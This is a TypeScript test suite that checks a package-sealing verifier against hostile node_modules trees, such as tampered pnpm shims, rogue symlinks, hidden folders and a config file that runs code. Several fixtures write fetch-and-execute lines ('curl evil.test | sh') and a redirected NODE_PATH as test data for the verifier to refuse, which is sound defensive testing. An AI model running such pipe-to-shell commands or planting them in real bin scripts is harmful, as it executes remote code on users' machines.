// Installed-tree attacks from issue 13: what a hostile tree tried, each refused, none hanging.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync } from 'node:child_process';
import { chmod, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { EMBEDDED_MANIFEST_PATH, buildManifest, hashBytes, serializeManifest } from '@sealpack/manifest';
import { verifyInstalled } from '@sealpack/verify';
import { cli } from '../helpers/cli.js';
import { cleanTempDirs, tempDir } from '../helpers/index.js';
import { installPackage, link, makeConsumer, makeKey, trustOf, type TestKey } from './sealed.js';

const test = suite('verifyInstalled attacks');
let alice: TestKey;
const ACME = { trust: [{ packages: '@acme/*', keys: ['alice'] }], unsigned: 'warn' };
// FIFOs in the tree and a walk that fails midway are in test/e2e/blocking-inputs.test.ts: a hang
// there would block this process forever, so they run the CLI in a child with a bound.

test.before(async () => {
  alice = await makeKey('alice');
});
test.after(cleanTempDirs);

const brief = (verdict: { findings: { severity: string; code: string; package?: string; file?: string }[] }) =>
  verdict.findings.map((f) => `${f.severity} ${f.code} ${f.package ?? ''}${f.file ? ` ${f.file}` : ''}`.trim()).sort();

test('an unsigned .sealpack/manifest.json at the project root excuses nothing', async () => {
  const root = await makeConsumer([alice], ACME);
  const nm = join(root, 'node_modules');
  await installPackage(join(nm, '@acme', 'evil'), '@acme/evil', '6.6.6');
  await writeFile(join(nm, 'loose.js'), 'evil()');
  const listing = ['node_modules/@acme/evil/index.js', 'node_modules/@acme/evil/package.json', 'node_modules/loose.js'];
  const manifest = buildManifest({
    name: 'consumer',
    version: '1.0.0',
    files: listing.map((path) => ({ path, ...hashBytes(Buffer.from('x')) })),
  });
  await mkdir(join(root, '.sealpack'), { recursive: true });
  await writeFile(join(root, EMBEDDED_MANIFEST_PATH), serializeManifest(manifest));
  const verdict = await verifyInstalled(root, { trust: await trustOf(root) });
  assert.equal(brief(verdict), ['error ESEAL_EXTRA_FILE loose.js node_modules/loose.js', 'error ESEAL_UNSIGNED @acme/evil']);
});

test('a covered package swapped for a link to an unsealed folder inside the project is judged, not taken for a workspace', async () => {
  const root = await makeConsumer([alice], ACME);
  await installPackage(join(root, 'dropped'), '@acme/widget', '1.0.0');
  await link(join(root, 'dropped'), join(root, 'node_modules', '@acme', 'widget'));
  // A declared workspace package (packages/*) stays the consumer's own source.
  await installPackage(join(root, 'packages', 'ws'), '@acme/ws', '0.0.0');
  await link(join(root, 'packages', 'ws'), join(root, 'node_modules', '@acme', 'ws'));
  const verdict = await verifyInstalled(root, { trust: await trustOf(root) });
  assert.equal(brief(verdict), ['error ESEAL_UNSIGNED @acme/widget']);
});

const SHIM = (target: string, nodePath = '/x/node_modules/.pnpm/node_modules') =>
  [
    '#!/bin/sh',
    `basedir=$(dirname "$(echo "$0" | sed -e 's,\\\\,/,g')")`,
    '',
    'case `uname` in',
    '    *CYGWIN*|*MINGW*|*MSYS*)',
    '        if command -v cygpath > /dev/null 2>&1; then',
    '            basedir=`cygpath -w "$basedir"`',
    '        fi',
    '    ;;',
    'esac',
    '',
    'if [ -z "$NODE_PATH" ]; then',
    `  export NODE_PATH="${nodePath}"`,
    'else',
    `  export NODE_PATH="${nodePath}:$NODE_PATH"`,
    'fi',
    'if [ -x "$basedir/node" ]; then',
    `  exec "$basedir/node"  "$basedir/${target}" "$@"`,
    'else',
    `  exec node  "$basedir/${target}" "$@"`,
    'fi',
    '',
  ].join('\n');

test('node_modules/.bin: links and pnpm shims into packages pass; a script, a link out, a NODE_PATH elsewhere fail', async () => {
  const root = await makeConsumer([alice], ACME);
  const nm = join(root, 'node_modules');
  await installPackage(join(nm, '@acme', 'cli'), '@acme/cli', '1.0.0', { signer: alice.signer, files: { 'bin/cli.js': 'x' } });
  await mkdir(join(nm, '.bin'));
  await symlink('../@acme/cli/bin/cli.js', join(nm, '.bin', 'linked'));
  await writeFile(join(nm, '.bin', 'shim'), SHIM('../@acme/cli/bin/cli.js'));
  let verdict = await verifyInstalled(root, { trust: await trustOf(root) });
  assert.ok(verdict.ok, JSON.stringify(verdict.findings));
  await writeFile(join(root, 'evil.js'), 'evil()');
  await writeFile(join(nm, '.bin', 'script'), '#!/bin/sh\ncurl evil.test | sh\n');
  await writeFile(join(nm, '.bin', 'tampered'), SHIM('../@acme/cli/bin/cli.js').replace('fi\n', 'fi\ncurl evil.test | sh\n'));
  await writeFile(join(nm, '.bin', 'nodepath'), SHIM('../@acme/cli/bin/cli.js', '/tmp/evil'));
  await writeFile(join(nm, '.bin', 'outside'), SHIM('../../evil.js'));
  await symlink('../../evil.js', join(nm, '.bin', 'link-out'));
  verdict = await verifyInstalled(root, { trust: await trustOf(root) });
  assert.equal(
    verdict.findings.map((f) => `${f.code} ${f.file}`).sort(),
    ['link-out', 'nodepath', 'outside', 'script', 'tampered'].map((n) => `ESEAL_EXTRA_FILE node_modules/.bin/${n}`),
  );
});

test('hidden folders and files in node_modules are judged like any package or loose file', async () => {
  const root = await makeConsumer([alice], { unsigned: 'deny' });
  const nm = join(root, 'node_modules');
  await mkdir(join(nm, '.hidden'), { recursive: true });
  await writeFile(join(nm, '.hidden', 'index.js'), 'evil()');
  await mkdir(join(nm, '@acme', '.hidden'), { recursive: true });
  await writeFile(join(nm, '@acme', '.hidden', 'index.js'), 'evil()');
  await writeFile(join(nm, '.evil.js'), 'evil()');
  await writeFile(join(nm, '.package-lock.json'), '{}');
  const verdict = await verifyInstalled(root, { trust: await trustOf(root) });
  assert.equal(brief(verdict), [
    'error ESEAL_EXTRA_FILE .evil.js node_modules/.evil.js',
    'error ESEAL_UNSIGNED .hidden',
    'error ESEAL_UNSIGNED @acme/.hidden',
  ]);
});

test("pnpm's lifecycle TMPDIR (node_modules/.tmp): left empty it passes; anything in it is judged like a package", async () => {
  // pnpm's script runner makes <project>/node_modules/.tmp, sets TMPDIR to it and leaves it behind.
  const root = await makeConsumer([alice], { unsigned: 'deny' });
  const nm = join(root, 'node_modules');
  // pnpm's lockfile, so that every installed entry is also held to what it lists.
  await mkdir(join(nm, '.tmp'), { recursive: true });
  await writeFile(join(nm, '.modules.yaml'), 'layoutVersion: 5\n');
  await writeFile(join(root, 'pnpm-lock.yaml'), "lockfileVersion: '9.0'\npackages: {}\n");
  let verdict = await verifyInstalled(root, { trust: await trustOf(root) });
  assert.equal(brief(verdict), []);
  assert.ok(verdict.ok);
  await mkdir(join(nm, '.tmp', 'build'));
  verdict = await verifyInstalled(root, { trust: await trustOf(root) });
  assert.ok(!verdict.ok && brief(verdict).includes('error ESEAL_UNSIGNED .tmp'), brief(verdict).join('\n'));
  await rm(join(nm, '.tmp', 'build'), { recursive: true });
  await writeFile(join(nm, '.tmp', 'index.js'), 'evil()');
  verdict = await verifyInstalled(root, { trust: await trustOf(root) });
  assert.ok(!verdict.ok && brief(verdict).includes('error ESEAL_UNSIGNED .tmp'), brief(verdict).join('\n'));
});

test('a folder where package.json or the seal should be is a finding naming the path; the rest is still verified', async () => {
  const root = await makeConsumer([alice], ACME);
  const nm = join(root, 'node_modules');
  await installPackage(join(nm, '@acme', 'good'), '@acme/good', '1.0.0', { signer: alice.signer });
  await mkdir(join(nm, '@acme', 'dirjson', 'package.json'), { recursive: true });
  await writeFile(join(nm, '@acme', 'dirjson', 'index.js'), 'x');
  await installPackage(join(nm, '@acme', 'dirseal'), '@acme/dirseal', '1.0.0');
  await mkdir(join(nm, '@acme', 'dirseal', EMBEDDED_MANIFEST_PATH), { recursive: true });
  const verdict = await verifyInstalled(root, { trust: await trustOf(root) });
  assert.equal(brief(verdict), ['error ESEAL_MALFORMED @acme/dirjson package.json', 'error ESEAL_MALFORMED @acme/dirseal']);
  assert.ok(verdict.findings.every((f) => /EISDIR/.test(f.message) && f.message.includes(nm)));
  assert.equal(verdict.subjects.map((s) => `${s.package} ${s.status}`).sort(), [
    '@acme/dirjson fail',
    '@acme/dirseal fail',
    '@acme/good pass',
  ]);
});

test('verify-installed DIR and verify-lockfile DIR take trust from where sealpack runs, and run no code of DIR', async () => {
  const here = await makeConsumer([alice], ACME);
  const subject = await tempDir('sealpack-subject-');
  await mkdir(join(subject, 'node_modules'));
  await installPackage(join(subject, 'node_modules', '@acme', 'evil'), '@acme/evil', '6.6.6');
  await writeFile(join(subject, 'package.json'), '{"name":"subject","version":"1.0.0"}');
  await writeFile(join(subject, 'package-lock.json'), '{"lockfileVersion":3,"packages":{"":{}}}');
  const marker = join(subject, 'ran');
  // The subject's own config would allow everything, and runs code.
  await writeFile(
    join(subject, '.sealpackrc.cjs'),
    `require('node:fs').writeFileSync(${JSON.stringify(marker)}, 'ran'); module.exports = { unsigned: 'allow', trust: [] };`,
  );
  await chmod(join(subject, '.sealpackrc.cjs'), 0o644);
  const installed = await cli(['verify-installed', subject, '--json'], { cwd: here });
  assert.is(installed.status, 1, installed.stdout + installed.stderr);
  assert.equal(
    (JSON.parse(installed.stdout) as { findings: { code: string }[] }).findings.map((f) => f.code),
    ['ESEAL_IDENTITY', 'ESEAL_UNSIGNED'],
  );
  const locked = await cli(['verify-lockfile', subject, '--json'], { cwd: here });
  assert.is(locked.status, 0, locked.stdout + locked.stderr);
  let ran = true;
  try {
    execFileSync('test', ['-e', marker]);
  } catch {
    ran = false;
  }
  assert.not.ok(ran, "the subject's .sealpackrc.cjs ran");
});

test.run();
